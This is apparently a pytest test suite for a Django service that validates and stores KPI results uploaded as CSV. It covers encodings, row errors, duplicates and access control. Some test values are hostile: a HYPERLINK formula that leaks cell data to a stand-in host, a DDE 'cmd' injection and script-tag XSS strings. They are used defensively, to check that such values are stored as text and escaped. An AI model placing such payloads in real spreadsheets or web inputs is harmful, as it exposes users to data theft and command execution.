"""Results uploaded as CSV (performance/upload.py and services.apply_returns): the whole file is checked
first, every bad row is reported with its row, column and reason, and nothing is written unless the
file is clean. Hand-built contracts with known answers."""

from dataclasses import dataclass
from datetime import date
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from commissioner.orgs.models import AuditEvent
from commissioner.orgs.services import create_user
from commissioner.performance import services, upload
from commissioner.performance.models import KpiReturn
from commissioner.performance.services import PerformanceError
from commissioner.register.models import Contract
from commissioner.register.services import create_local_contract
from conftest import PASSWORD

HEADER = "kpi,period,value,evidence\n"


@dataclass
class World:
    contract: Contract   # private, Merton's, held by "Upload Care Ltd"
    other: Contract      # private, Merton's, held by "Other Care Ltd"
    public: Contract     # public, Merton's, held by "Open Care Ltd"
    visits: object       # quarterly, higher is better, target 95, tolerance 2
    complaints: object   # monthly, lower is better, target 5, tolerance 1
    cost: object         # quarterly, £ per visit, lower is better, target 30, tolerance 1
    retired: object
    meals: object        # the other contract's
    provider: object     # acts for Upload Care Ltd
    other_provider: object  # acts for Other Care Ltd

    def ids(self):
        return {"visits": self.visits.pk, "complaints": self.complaints.pk, "retired": self.retired.pk,
                "meals": self.meals.pk}


def _contract(users, title, provider, *, private=True):
    return create_local_contract(owner=users["merton"], actor=users["admin"], title=title, delivery_model="market",
                                 provider_name=provider, supplier_type="sme", value=1_000_000,
                                 start_date=date(2024, 4, 1), end_date=date(2026, 3, 31), is_private=private)


def _kpi(users, contract, **data):
    base = {"name": "Visits on time", "unit": "%", "target": "95", "direction": "higher", "tolerance": "2",
            "frequency": "quarterly", "weight": "1"}
    return services.create_kpi(actor=users["admin"], contract=contract, data=base | data)


def _provider_user(username, contract):
    user = create_user(username=username, password=PASSWORD)
    services.link_provider_user(actor=None, user=user, provider=contract.contract_suppliers.first().supplier.provider)
    return user


@pytest.fixture
def world(users):
    contract = _contract(users, "Home care (upload test)", "Upload Care Ltd")
    other = _contract(users, "Meals (upload test)", "Other Care Ltd")
    public = _contract(users, "Day centre (upload test)", "Open Care Ltd", private=False)
    retired = _kpi(users, contract, name="Old measure")
    services.retire_kpi(actor=users["admin"], kpi=retired)
    return World(
        contract=contract, other=other, public=public,
        visits=_kpi(users, contract),
        complaints=_kpi(users, contract, name="Complaints upheld", unit="complaints", target="5", direction="lower",
                        tolerance="1", frequency="monthly"),
        cost=_kpi(users, contract, name="Cost per visit", unit="£ per visit", target="30", direction="lower",
                  tolerance="1"),
        retired=retired, meals=_kpi(users, other, name="Meals delivered"),
        provider=_provider_user("upload-care", contract), other_provider=_provider_user("other-care", other))


def url(contract):
    return reverse("performance-returns-upload", args=[contract.ocid])


def client(user=None):
    c = Client()
    if user is not None:
        c.force_login(user)
    return c


def post(user, contract, content, *, name="returns.csv", encoding="utf-8", using=None):
    data = content if isinstance(content, bytes) else content.encode(encoding)
    return (using or client(user)).post(url(contract), {"file": SimpleUploadedFile(name, data,
                                                                                   content_type="text/csv")})


def problems(response):
    return [(p.row, p.column, p.reason) for p in response.context["problems"]]


def assert_refused(response, expected):
    """Status 400, and each (row, column, part of the reason) reported, in order."""
    assert response.status_code == 400
    got = problems(response)
    assert len(got) == len(expected), got
    for (row, column, reason), (want_row, want_column, want_reason) in zip(got, expected, strict=True):
        assert (row, column) == (want_row, want_column), got
        assert want_reason in reason, got


# -- a clean file -------------------------------------------------------------------------------------

def test_get_shows_the_form_the_columns_and_the_kpis(world):
    response = client(world.provider).get(url(world.contract))
    assert response.status_code == 200
    html = response.content.decode()
    assert 'enctype="multipart/form-data"' in html and 'id="id_file"' in html and 'type="file"' in html
    assert 'for="id_file"' in html and "govuk-file-upload" in html
    assert "2 MB" in html and "5,000 rows" in html
    for name in ("Visits on time", "Complaints upheld", "Cost per visit"):
        assert name in html
    assert "Old measure" not in html  # retired: no results can be given for it
    assert "Meals delivered" not in html
    assert f">{world.visits.pk}<" in html  # its number, for the kpi column
    assert "govuk-error-summary" not in html


def test_a_clean_file_applies_every_return_with_its_period_and_classification(world):
    before = KpiReturn.objects.count()
    content = HEADER + (
        "Visits on time,2025-04-15,96.5,Rostering report\n"
        "Visits on time,15/07/2025,93.5,\n"
        f"{world.complaints.pk},15 Apr 2025,7,Complaints log\n"
        'complaints upheld,May 2025,"1,000",\n'
        "Cost per visit,30/09/2024,£29.90,\n")
    browser = client(world.provider)
    response = post(world.provider, world.contract, content, using=browser)
    assert response.status_code == 302
    assert response.url == reverse("performance-contract", args=[world.contract.ocid])
    assert KpiReturn.objects.count() == before + 5
    got = {(r.kpi_id, r.period_start): r for r in KpiReturn.objects.filter(kpi__contract=world.contract)}
    expected = [
        (world.visits, date(2025, 4, 1), date(2025, 6, 30), "96.5", "met", "Rostering report"),
        (world.visits, date(2025, 7, 1), date(2025, 9, 30), "93.5", "slightlyBelow", ""),
        (world.complaints, date(2025, 4, 1), date(2025, 4, 30), "7", "below", "Complaints log"),
        (world.complaints, date(2025, 5, 1), date(2025, 5, 31), "1000", "significantlyBelow", ""),
        (world.cost, date(2024, 7, 1), date(2024, 9, 30), "29.9", "met", ""),
    ]
    for kpi, start, end, value, classification, evidence in expected:
        r = got[(kpi.pk, start)]
        assert (r.period_end, r.value, r.classification, r.evidence) == (end, Decimal(value), classification, evidence)
        assert r.source == KpiReturn.Source.CSV and r.submitted_by == world.provider and r.is_current
        assert AuditEvent.objects.filter(model="performance.KpiReturn", action="created", object_pk=str(r.pk),
                                         actor=world.provider).exists()
    page = browser.get(response.url)
    assert "5 results uploaded from returns.csv" in page.content.decode()


def test_a_council_editor_may_upload_too(world, users):
    response = post(users["commissioner"], world.contract, HEADER + "Visits on time,2025-04-15,96,\n")
    assert response.status_code == 302
    r = KpiReturn.objects.get(kpi=world.visits)
    assert r.submitted_by == users["commissioner"] and r.source == "csv"


def test_cp1252_file_with_pound_signs_works(world):
    content = ("KPI,Period,Value,Evidence\r\n"
               'Cost per visit,15/04/2025,"£1,031.50",Invoices – £31.50 a visit\r\n')
    response = post(world.provider, world.contract, content.encode("cp1252"))
    assert response.status_code == 302
    r = KpiReturn.objects.get(kpi=world.cost)
    assert r.value == Decimal("1031.50") and r.evidence == "Invoices – £31.50 a visit"
    assert r.classification == "significantlyBelow"


def test_utf8_bom_semicolons_and_header_variants(world):
    content = ("\ufeffKPI name;Reporting period;Result (%);Notes;Team\r\n"
               "Visits on time;15/04/2025;96.5;From the rota, checked;North\r\n")
    response = post(world.provider, world.contract, content)
    assert response.status_code == 302
    r = KpiReturn.objects.get(kpi=world.visits)
    assert (r.period_start, r.value, r.evidence) == (date(2025, 4, 1), Decimal("96.5"), "From the rota, checked")
    content = "\ufeffKpi;Date;Actual\r\nVisits on time;2025-08-01;90\r\n"
    assert post(world.provider, world.contract, content).status_code == 302


def test_utf16_with_a_byte_order_mark_and_tabs_work(world):
    content = "kpi\tperiod\tvalue\nVisits on time\t2025-04-15\t96\n"
    assert post(world.provider, world.contract, content.encode("utf-16")).status_code == 302
    assert KpiReturn.objects.filter(kpi=world.visits).count() == 1


def test_a_comma_file_with_semicolons_in_the_evidence_is_read_as_commas(world):
    content = HEADER + 'Visits on time,2025-04-15,96,"a; b; c; d; e; f"\n'
    assert post(world.provider, world.contract, content).status_code == 302
    assert KpiReturn.objects.get(kpi=world.visits).evidence == "a; b; c; d; e; f"


@pytest.mark.parametrize("evidence", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "\t=1+1", "<script>alert(1)</script>",
])
def test_formula_looking_evidence_is_stored_as_text(world, evidence):
    quoted = '"' + evidence.replace('"', '""') + '"'
    response = post(world.provider, world.contract, HEADER + f"Visits on time,2025-04-15,96,{quoted}\n")
    assert response.status_code == 302
    assert KpiReturn.objects.get(kpi=world.visits).evidence == evidence.strip()


def test_title_rows_blank_rows_and_multiline_cells_keep_spreadsheet_row_numbers(world):
    content = ("Returns for April to June 2025\n"          # row 1: a title
               "kpi,period,value,evidence\n"                # row 2: the header
               'Visits on time,2025-04-15,96,"two\nlines"\n'  # row 3 (one row, two lines)
               "\n"                                         # row 4: blank, skipped
               "Visits on time,2025-07-15,lots,\n")         # row 5
    response = post(world.provider, world.contract, content)
    assert_refused(response, [(5, "value", "'lots' is not a number")])
    assert not KpiReturn.objects.filter(kpi__contract=world.contract).exists()


# -- bad rows: every one reported, nothing written ----------------------------------------------------------

BAD_ROWS = [
    ("before the term", "Visits on time,2024-03-31,90,", "period", "ends before the contract starts"),
    ("after the term", "Visits on time,2026-04-01,90,", "period", "starts after the contract ends"),
    ("unknown KPI", "Home visits,2025-04-15,90,", "kpi", "'Home visits' is not one of this contract's KPIs"),
    ("another contract's KPI by name", "Meals delivered,2025-04-15,90,", "kpi", "not one of this contract's KPIs"),
    ("another contract's KPI by number", "{meals},2025-04-15,90,", "kpi", "this contract has no KPI number"),
    ("unknown number", "999999999,2025-04-15,90,", "kpi", "this contract has no KPI number 999999999"),
    ("retired KPI by name", "Old measure,2025-04-15,90,", "kpi", "the KPI 'Old measure' is retired"),
    ("retired KPI by number", "{retired},2025-04-15,90,", "kpi", "is retired"),
    ("no KPI", ",2025-04-15,90,", "kpi", "enter the KPI's name"),
    ("formula as KPI", "=1+1,2025-04-15,90,", "kpi", "'=1+1' is not one of this contract's KPIs"),
    ("not a number", "Visits on time,2025-04-15,ninety,", "value", "'ninety' is not a number"),
    ("no value", "Visits on time,2025-04-15,,", "value", "enter a number"),
    ("huge value", "Visits on time,2025-04-15,1e30,", "value", "beyond the largest amount"),
    ("very long value", "Visits on time,2025-04-15," + "9" * 200 + ",", "value", "too long to be a result"),
    ("not finite", "Visits on time,2025-04-15,Infinity,", "value", "finite"),
    ("NaN", "Visits on time,2025-04-15,NaN,", "value", "finite"),
    ("decimal comma", 'Visits on time,2025-04-15,"96,5",', "value", "decimal comma"),
    ("bad grouping", 'Visits on time,2025-04-15,"9,65,0",', "value", "is not a number"),
    ("US date", "Visits on time,04/15/2025,90,", "period", "'04/15/2025' is not a date"),
    ("no such day", "Visits on time,31/02/2025,90,", "period", "is not a date"),
    ("no date", "Visits on time,,90,", "period", "enter a day in the period"),
    ("placeholder date", "Visits on time,TBC,90,", "period", "'TBC' is not a date"),
    ("odd year", "Visits on time,15/04/1900,90,", "period", "implausible year"),
    ("words", "Visits on time,last quarter,90,", "period", "is not a date"),
    ("long evidence", "Visits on time,2025-04-15,90," + "x" * 5001, "evidence", "5,001 characters"),
]


@pytest.mark.parametrize(("line", "column", "reason"), [case[1:] for case in BAD_ROWS],
                         ids=[case[0] for case in BAD_ROWS])
def test_each_bad_row_is_reported_with_row_column_and_reason(world, line, column, reason):
    before = KpiReturn.objects.count()
    content = HEADER + "Visits on time,2025-10-15,96,a good row first\n" + line.format(**world.ids()) + "\n"
    response = post(world.provider, world.contract, content)
    assert_refused(response, [(3, column, reason)])
    assert KpiReturn.objects.count() == before  # the good row is not written either
    html = response.content.decode()
    assert 'href="#id_file"' in html and "govuk-error-summary" in html and "govuk-file-upload--error" in html
    assert "nothing was saved" in html and "<th scope=\"col\" class=\"govuk-table__header\">Column</th>" in html


def test_every_bad_row_is_reported_at_once_and_columns_are_named_as_in_the_file(world):
    content = ("Indicator,Date,Result,Comments\n"
               "Visits on time,2025-04-15,96,fine\n"            # 2: good
               "Nope,2025-04-15,lots,\n"                       # 3: two problems
               "Visits on time,2025-05-20,97,same quarter\n"   # 4: duplicate of row 2
               "Complaints upheld,2027-01-01,3,\n"             # 5: after the term
               "Visits on time,2025-07-15,90,fine\n")          # 6: good
    response = post(world.provider, world.contract, content)
    assert_refused(response, [
        (3, "Indicator", "'Nope' is not one of this contract's KPIs"), (3, "Result", "'lots' is not a number"),
        (4, "Date", "row 2 already gives Visits on time for 01 Apr 2025 to 30 Jun 2025"),
        (5, "Date", "starts after the contract ends"),
    ])
    assert not KpiReturn.objects.filter(kpi__contract=world.contract).exists()
    assert "The file has 4 problems in 3 rows: nothing was saved" in response.content.decode()


def test_problem_text_is_escaped_on_the_page(world):
    response = post(world.provider, world.contract, HEADER + "<script>alert(1)</script>,2025-04-15,9,\n")
    assert response.status_code == 400
    html = response.content.decode()
    assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_two_kpis_with_one_name_need_the_number(world, users):
    twin = _kpi(users, world.contract, name="Visits on time", frequency="monthly")
    response = post(world.provider, world.contract, HEADER + "Visits on time,2025-04-15,96,\n")
    reason = f"2 KPIs are called 'Visits on time': give its number instead ({world.visits.pk}, {twin.pk})"
    assert_refused(response, [(2, "kpi", reason)])
    assert post(world.provider, world.contract, HEADER + f"{twin.pk},2025-04-15,96,\n").status_code == 302
    assert KpiReturn.objects.get(kpi=twin).period_end == date(2025, 4, 30)


# -- duplicates of returns already given --------------------------------------------------------------------

def test_the_same_clean_file_uploaded_twice_is_refused_the_second_time(world):
    content = HEADER + "Visits on time,2025-04-15,96,\nComplaints upheld,2025-04-15,4,\n"
    assert post(world.provider, world.contract, content).status_code == 302
    after_first = KpiReturn.objects.count()
    response = post(world.provider, world.contract, content)
    assert_refused(response, [
        (2, "period", "a result for Visits on time, 01 Apr 2025 to 30 Jun 2025, is already in: to change it, correct"),
        (3, "period", "a result for Complaints upheld, 01 Apr 2025 to 30 Apr 2025, is already in"),
    ])
    assert KpiReturn.objects.count() == after_first


def test_a_period_given_on_the_form_cannot_be_uploaded_but_a_new_one_can(world):
    services.submit_return(actor=world.provider, kpi=world.visits, day=date(2025, 5, 1), value="90")
    response = post(world.provider, world.contract,
                    HEADER + "Visits on time,2025-06-30,99,\nVisits on time,2025-07-01,99,\n")
    assert_refused(response, [(2, "period", "is already in")])
    assert KpiReturn.objects.filter(kpi=world.visits).count() == 1
    assert KpiReturn.objects.get(kpi=world.visits).value == Decimal(90)


def test_a_return_given_while_the_file_was_checked_refuses_the_whole_file(world, monkeypatch):
    """The check and the writing are apart: services.apply_returns checks every row again, all or nothing."""
    monkeypatch.setattr(upload, "check_rows", lambda contract, out: None)
    services.submit_return(actor=world.provider, kpi=world.complaints, day=date(2025, 4, 2), value="3")
    response = post(world.provider, world.contract,
                    HEADER + "Visits on time,2025-04-15,96,\nComplaints upheld,2025-04-15,4,\n")
    assert_refused(response, [(3, "period", "already in")])
    assert not KpiReturn.objects.filter(kpi=world.visits).exists()
    assert KpiReturn.objects.filter(kpi=world.complaints).count() == 1


# -- files that are not right ---------------------------------------------------------------------------------

BAD_FILES = [
    ("empty", b"", "The selected file is empty"),
    ("blank lines", b"\r\n \r\n\r\n", "The selected file is empty"),
    ("header only", b"kpi,period,value\r\n", "a header but no results"),
    ("header too far down", b"\r\n" * 12 + b"kpi,period,value\r\nVisits on time,2025-04-15,96\r\n", "no header row"),
    ("xlsx", b"PK\x03\x04\x14\x00\x06\x00" + bytes(200), "Excel workbook"),
    ("xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200), "old Excel"),
    ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "a PDF"),
    ("png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "a PNG image"),
    ("binary", bytes(range(256)) * 8, "binary data"),
    ("utf-16 without a mark", "kpi,period,value\nVisits on time,2025-04-15,96\n".encode("utf-16-le"),
     "UTF-16 without a byte-order mark"),
    ("broken utf-8 after a mark", b"\xef\xbb\xbfkpi,period,value\nVisits on time,2025-04-15,9\xff\n",
     "cannot be read as text"),
    ("control characters", b"kpi,period,value\nVisits\x01 on time,2025-04-15,96\n", "control characters"),
    ("undefined cp1252 bytes", b"kpi,period,value\nVisits \x81 on time,2025-04-15,96\n", "control characters"),
    ("json", b'{"kpi": "Visits on time", "value": 96}', "JSON"),
]


@pytest.mark.parametrize(("content", "reason"), [case[1:] for case in BAD_FILES], ids=[case[0] for case in BAD_FILES])
def test_files_that_are_not_csv_are_refused_with_the_reason(world, content, reason):
    before = KpiReturn.objects.count()
    response = post(world.provider, world.contract, content)
    assert response.status_code == 400
    got = problems(response)
    assert len(got) == 1 and got[0][0] is None and reason in got[0][2], got
    assert reason in response.context["form"].errors["file"][0]
    html = response.content.decode()
    assert 'href="#id_file"' in html and 'id="id_file_error"' in html
    assert KpiReturn.objects.count() == before


@pytest.mark.parametrize(("header", "expected"), [
    ("kpi,when,value", [(1, "period", "there is no period column")]),
    ("kpi,result", [(1, "period", "there is no period column")]),
    ("name,date,amount", [(1, "kpi", "there is no kpi column")]),
    ("a,b,c", [(1, "kpi", "no kpi column"), (1, "period", "no period column"), (1, "value", "no value column")]),
    ("KPI name,KPI id,period,value", [(1, "KPI id", "two columns give the kpi: 'KPI name' and 'KPI id'")]),
])
def test_missing_or_doubled_columns_are_reported_on_the_header_row(world, header, expected):
    response = post(world.provider, world.contract, header + "\nVisits on time,2025-04-15,96,96\n")
    assert_refused(response, expected)
    assert not KpiReturn.objects.filter(kpi__contract=world.contract).exists()


def test_an_oversized_file_is_refused_before_it_is_read(world):
    big = HEADER + ("Visits on time,2025-04-15,96," + "x" * 1000 + "\n") * 2100
    assert len(big) > upload.MAX_BYTES
    response = post(world.provider, world.contract, big)
    assert response.status_code == 400
    assert "the most accepted is 2 MB" in response.context["form"].errors["file"][0]
    assert not KpiReturn.objects.filter(kpi__contract=world.contract).exists()


def test_too_many_rows_are_refused(world):
    content = HEADER + "Visits on time,2025-04-15,96,\n" * (upload.MAX_ROWS + 1)
    response = post(world.provider, world.contract, content)
    assert response.status_code == 400
    assert "5,001 rows of results: the most accepted in one file is 5,000" in response.context["form"].errors["file"][0]
    assert not KpiReturn.objects.filter(kpi__contract=world.contract).exists()


def test_no_file_selected(world):
    response = client(world.provider).post(url(world.contract), {})
    assert response.status_code == 400
    assert response.context["form"].errors["file"] == ["Select a CSV file of results"]
    assert 'href="#id_file"' in response.content.decode()


def test_the_problem_list_is_capped_on_the_page_but_all_are_counted(world):
    content = HEADER + "Visits on time,2025-04-15,bad,\n" * 1200
    response = post(world.provider, world.contract, content)
    assert response.status_code == 400
    assert len(response.context["problems"]) == 1200 and len(response.context["row_problems"]) == upload.MAX_SHOWN
    assert "And 200 more problems" in response.content.decode()


# -- who may upload -----------------------------------------------------------------------------------------------

def test_anonymous_users_are_sent_to_sign_in(world):
    for response in (Client().get(url(world.contract)),
                     Client().post(url(world.contract), {"file": SimpleUploadedFile("r.csv", HEADER.encode())})):
        assert response.status_code == 302 and response.url.startswith(reverse("login"))
    assert not KpiReturn.objects.filter(kpi__contract=world.contract).exists()


def test_a_provider_of_another_contract_is_refused_and_the_attempt_audited(world, users):
    k = _kpi(users, world.public, name="Sessions held")
    before = KpiReturn.objects.count()
    response = post(world.other_provider, world.public, HEADER + "Sessions held,2025-04-15,96,\n")
    assert response.status_code == 403
    assert KpiReturn.objects.count() == before and not KpiReturn.objects.filter(kpi=k).exists()
    refused = AuditEvent.objects.filter(actor=world.other_provider, action="refused", object_pk=str(world.public.pk))
    assert refused.count() == 1 and refused.get().after == {"attempt": "upload returns"}
    assert client(world.other_provider).get(url(world.public)).status_code == 403
    # A private contract they cannot see at all: a 404 (as on every performance page), still audited.
    response = post(world.other_provider, world.contract, HEADER + "Visits on time,2025-04-15,96,\n")
    assert response.status_code == 404
    assert AuditEvent.objects.filter(actor=world.other_provider, action="refused",
                                     object_pk=str(world.contract.pk)).exists()
    assert not KpiReturn.objects.filter(kpi__contract=world.contract).exists()


def test_a_viewer_may_not_upload(world, users):
    assert client(users["viewer"]).get(url(world.contract)).status_code == 403
    response = post(users["viewer"], world.contract, HEADER + "Visits on time,2025-04-15,96,\n")
    assert response.status_code == 403
    assert not KpiReturn.objects.filter(kpi__contract=world.contract).exists()
    assert AuditEvent.objects.filter(actor=users["viewer"], action="refused", object_pk=str(world.contract.pk)).exists()


def test_another_council_gets_a_404_for_a_private_contract_and_superusers_may_upload(world, users):
    assert post(users["other"], world.contract, HEADER + "Visits on time,2025-04-15,96,\n").status_code == 404
    assert client().get(reverse("performance-returns-upload", args=["no-such-ocid"])).status_code == 302
    assert client(users["admin"]).get(reverse("performance-returns-upload", args=["no-such-ocid"])).status_code == 404
    assert post(users["superuser"], world.contract, HEADER + "Visits on time,2025-04-15,96,\n").status_code == 302


def test_a_provider_cannot_use_another_contracts_kpi_on_its_own_contract(world):
    response = post(world.provider, world.contract, HEADER + f"{world.meals.pk},2025-04-15,96,\n")
    assert_refused(response, [(2, "kpi", "this contract has no KPI number")])
    assert not KpiReturn.objects.filter(kpi=world.meals).exists()


# -- services.apply_returns ---------------------------------------------------------------------------------------

def test_apply_returns_is_all_or_nothing(world):
    services.submit_return(actor=world.provider, kpi=world.visits, day=date(2025, 8, 1), value="90")
    before = KpiReturn.objects.count()
    rows = [{"kpi": world.visits, "day": date(2025, 4, 15), "value": "96", "row": 2},
            {"kpi": world.visits, "day": date(2025, 8, 15), "value": "97", "row": 3},     # already in
            {"kpi": world.meals, "day": date(2025, 4, 15), "value": "97", "row": 4},      # another contract's
            {"kpi": world.complaints, "day": date(2025, 4, 15), "value": "x", "row": 5},  # not a number
            {"kpi": world.visits, "day": date(2025, 4, 20), "value": "1"}]                # same period as row 2
    with pytest.raises(PerformanceError) as e:
        services.apply_returns(actor=world.provider, contract=world.contract, rows=rows)
    assert [(row, f) for row, f, _ in e.value.errors] == [(3, "period"), (4, "kpi"), (5, "value"), (5, "period")]
    assert KpiReturn.objects.count() == before


def test_apply_returns_writes_them_all_and_checks_permission(world, users):
    rows = [{"kpi": world.visits, "day": date(2025, 4, 15), "value": Decimal(96), "evidence": "=1+1"},
            {"kpi": world.complaints, "day": date(2025, 4, 15), "value": "4"}]
    with pytest.raises(PermissionDenied):
        services.apply_returns(actor=users["viewer"], contract=world.contract, rows=rows)
    assert AuditEvent.objects.filter(actor=users["viewer"], action="refused", object_pk=str(world.contract.pk)).exists()
    assert not KpiReturn.objects.filter(kpi__contract=world.contract).exists()
    assert services.apply_returns(actor=world.provider, contract=world.contract, rows=[]) == []
    created = services.apply_returns(actor=world.provider, contract=world.contract, rows=rows)
    assert [(r.kpi, r.classification, r.source, r.evidence) for r in created] == [
        (world.visits, "met", "csv", "=1+1"), (world.complaints, "met", "csv", "")]


# -- the parts ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("header", "column"), [
    ("KPI", "kpi"), ("Kpi Name", "kpi"), ("KPI ID", "kpi"), ("Performance indicator", "kpi"), ("Measure", "kpi"),
    ("Period", "period"), ("Any day in the period", "period"), ("Period end date", "period"), ("Date", "period"),
    ("Month", "period"), ("Value", "value"), ("Result (%)", "value"), ("KPI value", "value"), ("Actual", "value"),
    ("Evidence (optional)", "evidence"), ("Notes", "evidence"), ("Comments", "evidence"), ("\ufeffkpi", "kpi"),
    ("Team", None), ("", None),
])
def test_header_variants(header, column):
    assert upload.column_for_header(header) == column


@pytest.mark.parametrize(("raw", "day"), [
    ("2025-04-15", date(2025, 4, 15)), ("15/04/2025", date(2025, 4, 15)), ("15 Apr 2025", date(2025, 4, 15)),
    ("15 April 2025", date(2025, 4, 15)), ("15-04-2025", date(2025, 4, 15)), ("15/4/25", date(2025, 4, 15)),
    ("April 2025", date(2025, 4, 1)), ("Apr-2025", date(2025, 4, 1)), ("2025-04", date(2025, 4, 1)),
    ("45762", date(2025, 4, 15)), ("2025-04-15T00:00:00", date(2025, 4, 15)),
])
def test_period_formats(raw, day):
    assert upload.parse_period(raw) == day


@pytest.mark.parametrize(("raw", "value"), [
    ("96.5", "96.5"), ("1,234", "1234"), ("£1,234.50", "1234.50"), ("95%", "95"), (" 7 ", "7"), ("-3", "-3"),
    ("0.123456", "0.1235"), ("1e3", "1000"),
])
def test_value_formats(raw, value):
    assert upload.parse_value(raw) == Decimal(value)
